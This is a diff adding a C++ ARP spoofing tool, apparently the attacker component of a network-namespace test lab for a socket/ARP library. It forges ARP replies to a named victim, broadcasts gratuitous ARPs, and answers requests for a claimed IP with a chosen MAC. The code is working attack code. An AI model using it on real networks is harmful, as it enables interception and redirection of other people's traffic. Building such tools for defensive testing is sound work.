@@ -1,0 +1,173 @@
+// The lab's attacker: forges ARP on one link of its network namespace.
+//   tw_arp_attacker <link> reply <claimed-ip> <victim-ip> <victim-mac> <count> [<claimed-mac>]
+//       forged replies "claimed-ip is at claimed-mac", sent to the victim, as fast as possible
+//   tw_arp_attacker <link> gratuitous <claimed-ip> <count> [<claimed-mac>]
+//       gratuitous ARPs for claimed-ip, broadcast, requests and replies alternating
+//   tw_arp_attacker <link> answer <claimed-ip> <count> [<claimed-mac>]
+//       prints "ready" once listening, then answers <count> requests for claimed-ip (0: until
+//       SIGTERM or SIGINT)
+// The claimed MAC is the link's own unless given. Prints what it did on its last line.
+#include "Core_SocketARP/NetworkStack.h"
+#include "Core_SocketARP/linux/ArpPacket_linux.h"
+
+#include <arpa/inet.h>
+#include <net/if.h>
+#include <sys/ioctl.h>
+#include <sys/socket.h>
+#include <unistd.h>
+
+#include <cerrno>
+#include <chrono>
+#include <csignal>
+#include <cstdio>
+#include <cstdlib>
+#include <cstring>
+#include <optional>
+#include <string>
+
+namespace {
+
+using Core_SocketARP::arp::MacAddress;
+using Core_SocketARP::arp::Packet;
+using Core_SocketARP::arp::PacketSocket;
+
+volatile std::sig_atomic_t stop_requested = 0;
+
+void RequestStop(int) { stop_requested = 1; }
+
+[[noreturn]] void Fail(const std::string& what) {
+    std::fprintf(stderr, "tw_arp_attacker: %s\n", what.c_str());
+    std::exit(1);
+}
+
+std::uint32_t ParseIp(const char* text) {
+    in_addr address{};
+    if (inet_pton(AF_INET, text, &address) != 1) {
+        Fail(std::string("not an IPv4 address: ") + text);
+    }
+    return address.s_addr;
+}
+
+MacAddress ParseMac(const char* text) {
+    MacAddress mac{};
+    unsigned parts[6] = {};
+    if (std::sscanf(text, "%x:%x:%x:%x:%x:%x", &parts[0], &parts[1], &parts[2], &parts[3],
+                    &parts[4], &parts[5]) != 6) {
+        Fail(std::string("not a MAC address: ") + text);
+    }
+    for (int i = 0; i < 6; ++i) {
+        mac[static_cast<std::size_t>(i)] = static_cast<std::uint8_t>(parts[i]);
+    }
+    return mac;
+}
+
+long ParseCount(const char* text) {
+    char* end = nullptr;
+    const long count = std::strtol(text, &end, 10);
+    if (end == text || *end != '\0' || count < 0) {
+        Fail(std::string("not a count: ") + text);
+    }
+    return count;
+}
+
+MacAddress LinkMac(const std::string& name) {
+    const int fd = ::socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
+    if (fd < 0) {
+        Fail("socket: " + std::string(std::strerror(errno)));
+    }
+    ifreq request{};
+    std::strncpy(request.ifr_name, name.c_str(), IFNAMSIZ - 1);
+    const int result = ::ioctl(fd, SIOCGIFHWADDR, &request);
+    const int error = errno;
+    ::close(fd);
+    if (result != 0) {
+        Fail("SIOCGIFHWADDR " + name + ": " + std::strerror(error));
+    }
+    MacAddress mac{};
+    std::memcpy(mac.data(), request.ifr_hwaddr.sa_data, mac.size());
+    return mac;
+}
+
+// A sending socket must not queue what the link receives.
+std::vector<sock_filter> DropAll() { return Core_SocketARP::arp::DropAllFilter(); }
+
+} // namespace
+
+int main(int argc, char** argv) {
+    if (argc < 4) {
+        Fail("usage: see the comment at the top of ArpAttacker.cpp");
+    }
+    const std::string link = argv[1];
+    const std::string mode = argv[2];
+    const int index = static_cast<int>(if_nametoindex(link.c_str()));
+    if (index == 0) {
+        Fail("no link " + link);
+    }
+    const MacAddress ownMac = LinkMac(link);
+    try {
+        if (mode == "reply" && (argc == 7 || argc == 8)) {
+            Packet packet;
+            packet.operation = Core_SocketARP::arp::operation_reply;
+            packet.senderIp = ParseIp(argv[3]);
+            packet.senderMac = argc == 8 ? ParseMac(argv[7]) : ownMac;
+            packet.targetIp = ParseIp(argv[4]);
+            packet.targetMac = ParseMac(argv[5]);
+            const long count = ParseCount(argv[6]);
+            PacketSocket socket(index, DropAll());
+            for (long i = 0; i < count; ++i) {
+                socket.Send(packet, index, packet.targetMac);
+            }
+            std::printf("sent %ld replies\n", count);
+            return 0;
+        }
+        if (mode == "gratuitous" && (argc == 5 || argc == 6)) {
+            Packet packet;
+            packet.senderIp = ParseIp(argv[3]);
+            packet.targetIp = packet.senderIp;
+            packet.senderMac = argc == 6 ? ParseMac(argv[5]) : ownMac;
+            const long count = ParseCount(argv[4]);
+            PacketSocket socket(index, DropAll());
+            for (long i = 0; i < count; ++i) {
+                const bool request = i % 2 == 0;
+                packet.operation = request ? Core_SocketARP::arp::operation_request
+                                           : Core_SocketARP::arp::operation_reply;
+                packet.targetMac = request ? MacAddress{} : Core_SocketARP::arp::broadcast_mac;
+                socket.Send(packet, index, Core_SocketARP::arp::broadcast_mac);
+            }
+            std::printf("sent %ld gratuitous\n", count);
+            return 0;
+        }
+        if (mode == "answer" && (argc == 5 || argc == 6)) {
+            const std::uint32_t claimed = ParseIp(argv[3]);
+            const long count = ParseCount(argv[4]);
+            const MacAddress claimedMac = argc == 6 ? ParseMac(argv[5]) : ownMac;
+            std::signal(SIGTERM, RequestStop);
+            std::signal(SIGINT, RequestStop);
+            PacketSocket socket(index, Core_SocketARP::arp::RequestFilter(claimed));
+            std::printf("ready\n");
+            std::fflush(stdout);
+            long answered = 0;
+            while (stop_requested == 0 && (count == 0 || answered < count)) {
+                const auto received = socket.Receive(std::chrono::steady_clock::now() +
+                                                     std::chrono::milliseconds(100));
+                if (!received ||
+                    received->packet.operation != Core_SocketARP::arp::operation_request) {
+                    continue;
+                }
+                Packet reply;
+                reply.operation = Core_SocketARP::arp::operation_reply;
+                reply.senderMac = claimedMac;
+                reply.senderIp = claimed;
+                reply.targetMac = received->packet.senderMac;
+                reply.targetIp = received->packet.senderIp;
+                socket.Send(reply, index, received->packet.senderMac);
+                ++answered;
+            }
+            std::printf("answered %ld\n", answered);
+            return 0;
+        }
+    } catch (Core_SocketARP::SystemErrorCode code) {
+        Fail("system error " + std::to_string(code) + ": " + std::strerror(static_cast<int>(code)));
+    }
+    Fail("usage: see the comment at the top of ArpAttacker.cpp");
+}
